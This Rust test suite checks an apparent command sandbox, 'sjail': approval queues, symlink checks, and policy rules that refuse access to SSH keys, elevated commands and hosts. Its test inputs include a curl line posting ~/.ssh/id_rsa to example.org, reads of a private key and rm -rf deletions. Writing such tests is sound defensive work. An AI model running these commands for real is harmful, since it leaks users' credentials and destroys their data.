//! Approvals that carry what a command needs: it is named before anybody is asked, given for
//! that run, written down; and what nobody can give is refused before the question.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use sjail_tests::{Scene, Test, Verdict, tests};

use crate::desk::Desk;

pub fn suite() -> Vec<Test> {
    tests![
        a_file_is_named_given_and_written_down,
        a_harmless_read_that_the_jail_hides_is_asked_about,
        a_link_that_leads_elsewhere_voids_the_answer,
        a_permission_for_a_while_carries_it,
        an_approver_takes_it_out,
        what_the_policy_hides_is_refused_before_the_question,
        what_is_locked_is_refused_before_the_question,
        what_only_the_host_can_do_is_refused_before_the_question,
        one_simple_command_runs_on_the_host_after_a_yes,
        a_host_is_named,
        a_folder_to_write_is_given,
        explain_goes_step_by_step,
    ]
}

const POLICY: &str = ".config/sjail/policy.toml";

fn key(scene: &Scene) -> Verdict<String> {
    let path = scene.home_file(".ssh/id_rsa", "the key\n")?;
    Ok(path.display().to_string())
}

fn nobody_was_asked(desk: &Desk<'_>) -> Verdict {
    let listed = desk.sjail(["queue", "list", "--status", "all", "--json"])?;
    assert_eq!(listed.json()?["total"], 0, "{}", listed.stdout);
    Ok(())
}

fn a_file_is_named_given_and_written_down(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let path = key(scene)?;
    let line = format!("cat {path}");
    let id = desk.ask(&line)?;
    desk.sjail(["queue", "show", &id])?
        .succeeds()?
        .stdout_has(&format!("to read {path}"))?
        .stdout_has("is given")?;
    let shown = desk.sjail(["queue", "show", &id, "--json"])?.json()?;
    assert_eq!(shown["access"][0]["kind"], "path", "{shown}");
    assert_eq!(shown["access"][0]["access"], "ro", "{shown}");
    // A pattern would let it run without what it needs.
    desk.sjail(["queue", "approve", &id, "--always"])?
        .exits(77)?
        .stderr_has("needs more")?;
    desk.sjail(["queue", "approve", &id])?.succeeds()?;
    desk.sjail(["run", "--approval", &id])?
        .succeeds()?
        .stdout_has("the key")?;
    let record = desk.sjail(["audit", "show", &id, "--json"])?.json()?;
    let needs = &record[0]["detail"]["needs"][0];
    assert_eq!(needs["path"].as_str(), Some(path.as_str()), "{record}");
    // For that run alone.
    desk.sjail(["run", "--no-wait", "-c", &line])?.exits(75)?;
    Ok(())
}

fn a_harmless_read_that_the_jail_hides_is_asked_about(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let public = scene.home_file(".ssh/id_rsa.pub", "ssh-rsa AAAA ann\n")?;
    let line = "cat ~/.ssh/id_rsa.pub";
    let id = desk.ask(line)?;
    let shown = desk.sjail(["queue", "show", &id, "--json"])?.json()?;
    assert_eq!(shown["risk"], "safe", "{shown}");
    let only = &shown["access"];
    assert_eq!(only.as_array().map(Vec::len), Some(1), "{shown}");
    assert_eq!(only[0]["path"].as_str(), public.to_str(), "{shown}");
    assert_eq!(only[0]["access"], "ro", "{shown}");
    desk.sjail(["queue", "approve", &id])?.succeeds()?;
    desk.sjail(["run", "--approval", &id])?
        .succeeds()?
        .stdout_has("ssh-rsa AAAA ann")?;
    // For that run, and to read it.
    desk.sjail(["run", "--no-wait", "-c", line])?.exits(75)?;
    desk.sjail(["check", line])?.exits(75)?;
    scene
        .sjail(["explain", "-c", line])
        .output()?
        .stdout_has(&format!("it needs to read {}", public.display()))?;
    // What is there in part, nowhere, or in the jail already asks nobody.
    let other = ["cat ~/.ssh/nothing; true", "cat ~/.ssh/id_rsa.pub || true"];
    for line in ["ls ~ ..", other[0], other[1], "cat /etc/os-release"] {
        desk.sjail(["run", "--no-wait", "-c", line])?.succeeds()?;
        desk.sjail(["check", line])?.exits(0)?;
    }
    // Neither does what its owner lets run, keeps from everybody, or has given.
    for (text, code) in [
        ("[commands]\nallow = [\"cat *\"]\n", 1),
        ("[filesystem]\ndeny = [\"~/.ssh/**\"]\n", 1),
        ("[filesystem]\nread = [\"~/.ssh/id_rsa.pub\"]\n", 0),
    ] {
        scene.home_file(POLICY, text)?;
        desk.sjail(["run", "--no-wait", "-c", line])?.exits(code)?;
    }
    Ok(())
}

fn a_link_that_leads_elsewhere_voids_the_answer(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    key(scene)?;
    let other = scene.home_file(".ssh/id_other", "another key\n")?;
    let link = scene.home().join("link");
    symlink(&other, &link)?;
    let id = desk.ask(&format!("cat {} {}", link.display(), key(scene)?))?;
    desk.sjail(["queue", "show", &id])?
        .stdout_has(&format!("(which is {})", other.display()))?;
    desk.sjail(["queue", "approve", &id])?.succeeds()?;
    fs::remove_file(&link)?;
    symlink(key(scene)?, &link)?;
    desk.sjail(["run", "--approval", &id])?
        .exits(75)?
        .stderr_has("is no longer what it would be given")?
        .lacks("key\n")?;
    Ok(())
}

fn a_permission_for_a_while_carries_it(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let path = key(scene)?;
    let line = format!("cat {path}");
    let id = desk.ask(&line)?;
    desk.sjail(["queue", "approve", &id, "--for", "1h"])?
        .succeeds()?;
    let again = ["run", "--no-wait", "-c", &line];
    desk.sjail(again)?.succeeds()?.stdout_has("the key")?;
    // It was given for the file that was there.
    let other = scene.home_file("other", "something else\n")?;
    fs::remove_file(&path)?;
    symlink(other, &path)?;
    desk.sjail(again)?.exits(75)?;
    Ok(())
}

fn an_approver_takes_it_out(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let path = key(scene)?;
    let id = desk.ask(&format!("cat {path}"))?;
    desk.sjail(["queue", "approve", &id, "--without", &path])?
        .succeeds()?;
    let run = desk.sjail(["run", "--approval", &id])?;
    assert_ne!(run.code(), Some(0));
    run.lacks("the key")?;
    Ok(())
}

fn what_the_policy_hides_is_refused_before_the_question(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let path = key(scene)?;
    let link = scene.home().join("link");
    symlink(&path, &link)?;
    scene.home_file(POLICY, "[filesystem]\ndeny = [\"~/.ssh/**\"]\n")?;
    for path in [Path::new(&path), &link] {
        scene
            .sjail(["run", "--no-wait", "--require-approval", "--", "cat"])
            .args([path])
            .output()?
            .exits(77)?
            .stderr_has("nobody is asked")?
            .stderr_has("filesystem.deny")?;
    }
    nobody_was_asked(&desk)
}

fn what_is_locked_is_refused_before_the_question(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let path = key(scene)?;
    let text = "[lock]\nkeys = [\"filesystem.read\", \"network.mode\"]\n";
    scene.home_file(POLICY, text)?;
    let send = format!("curl -d @{path} https://example.org/");
    for line in [&format!("cat {path}"), &send] {
        desk.sjail(["run", "--no-wait", "-c", line])?
            .exits(77)?
            .stderr_has("is locked")?;
    }
    nobody_was_asked(&desk)
}

fn what_only_the_host_can_do_is_refused_before_the_question(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    for line in ["sudo ls", "docker rm -f x", "systemctl restart x"] {
        desk.sjail(["run", "--no-wait", "-c", line])?
            .exits(77)?
            .stderr_has("elevated.enabled is false")?;
        // Asked beforehand, it says the same.
        desk.sjail(["check", line])?
            .exits(77)?
            .stdout_has("elevated.enabled is false")?;
        let answer = desk.sjail(["check", "--json", line])?.exits(77)?.json()?;
        assert_eq!(answer["suggested_action"], "block", "{answer}");
    }
    scene.home_file(POLICY, "[elevated]\nenabled = true\n")?;
    for line in [
        "sudo ls; rm -rf build",
        "sudo ls >out",
        "sudo sh -c 'ls; ls'",
    ] {
        desk.sjail(["run", "--no-wait", "-c", line])?
            .exits(77)?
            .stderr_has("one simple command")?;
    }
    nobody_was_asked(&desk)?;
    // The refusal is in the log, with its reason.
    let log = desk.log()?;
    assert_eq!(log.len(), 6, "{log:?}");
    assert_eq!(log[0]["decision"], "block");
    Ok(())
}

fn one_simple_command_runs_on_the_host_after_a_yes(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    scene.needs(&["mount"])?;
    desk.needs_no_terminal()?;
    scene.home_file(POLICY, "[elevated]\nenabled = true\n")?;
    let ask = ["run", "--no-wait", "--require-approval", "--", "mount"];
    let mut terminal = scene.sjail(ask).terminal()?;
    terminal.expect("approval is pending: ")?;
    terminal.finish()?;
    let listed = desk.sjail(["queue", "list", "--json"])?.json()?;
    let id = listed["requests"][0]["id"].as_str().unwrap_or_default();
    desk.sjail(["queue", "show", id])?
        .stdout_has("to run on the host, outside the jail: mount")?;
    desk.sjail(["queue", "approve", id])?.succeeds()?;
    let run = desk.sjail(["run", "--approval", id])?;
    run.succeeds()?;
    let root = |text: &str| {
        let mut lines = text.lines().filter(|line| line.contains(" on / type "));
        lines.next_back().map(str::to_owned)
    };
    let host = scene.host("mount").output()?;
    assert!(root(&host.stdout).is_some(), "{}", host.stdout);
    assert_eq!(root(&run.stdout), root(&host.stdout));
    Ok(())
}

fn a_host_is_named(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let path = key(scene)?;
    let id = desk.ask(&format!("curl -d @{path} https://example.org/"))?;
    desk.sjail(["queue", "show", &id])?
        .succeeds()?
        .stdout_has("the network: example.org")?
        .stdout_has(&format!("to read {path}"))?;
    desk.sjail(["queue", "approve", &id, "--without", "example.net"])?
        .exits(77)?;
    desk.sjail(["queue", "approve", &id, "--without", "example.org"])?
        .succeeds()?;
    scene.home_file(POLICY, "[network]\ndeny = [\"*.example.org\"]\n")?;
    let line = format!("curl -d @{path} https://x.example.org/");
    desk.sjail(["run", "--no-wait", "-c", &line])?
        .exits(77)?
        .stderr_has("network.deny")?;
    Ok(())
}

fn a_folder_to_write_is_given(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let old = scene.home_file("old/deep/x", "x")?;
    let folder = scene.home().join("old");
    let id = desk.ask(&format!("rm -rf {}/deep", folder.display()))?;
    desk.sjail(["queue", "show", &id])?
        .stdout_has(&format!("to write {}", folder.display()))?;
    desk.sjail(["queue", "approve", &id])?.succeeds()?;
    desk.sjail(["run", "--approval", &id])?.succeeds()?;
    assert!(!old.exists() && folder.exists());
    // All of a home is too much for one command.
    desk.sjail(["run", "--no-wait", "-c", "rm -rf ~/old"])?
        .exits(77)?
        .stderr_has("too much")?;
    Ok(())
}

fn explain_goes_step_by_step(scene: &Scene) -> Verdict {
    let path = key(scene)?;
    let policy = scene.home_file(POLICY, "[commands]\ndeny = [\"make\"]\nask = [\"cat *\"]\n")?;
    let explain = |line: &str| scene.sjail(["explain", "-c", line]).output();
    explain("echo x && sudo make install")?
        .succeeds()?
        .stdout_has("1. echo x: safe")?
        .stdout_has("make install (behind sudo)")?
        .stdout_has("gains rights (dangerous: Runs with other rights)")?
        .stdout_has(&format!("commands.deny `make` ({}:2)", policy.display()))?
        .stdout_has("would be blocked, by commands.deny")?;
    explain(&format!("cat {path}"))?
        .stdout_has(&format!("commands.ask `cat *` ({}:3)", policy.display()))?
        .stdout_has("would ask, then run in the jail")?
        .stdout_has(&format!("it needs to read {path}"))?
        .stdout_has("network none")?;
    explain("sudo ls")?.stdout_has("would be refused before anybody is asked")?;
    let json = scene
        .sjail(["explain", "--json", "--", "cat", &path])
        .output()?
        .json()?;
    assert_eq!(
        json["needs"][0]["path"].as_str(),
        Some(path.as_str()),
        "{json}"
    );
    assert_eq!(json["commands"][0]["program"]["name"], "cat");
    Ok(())
}
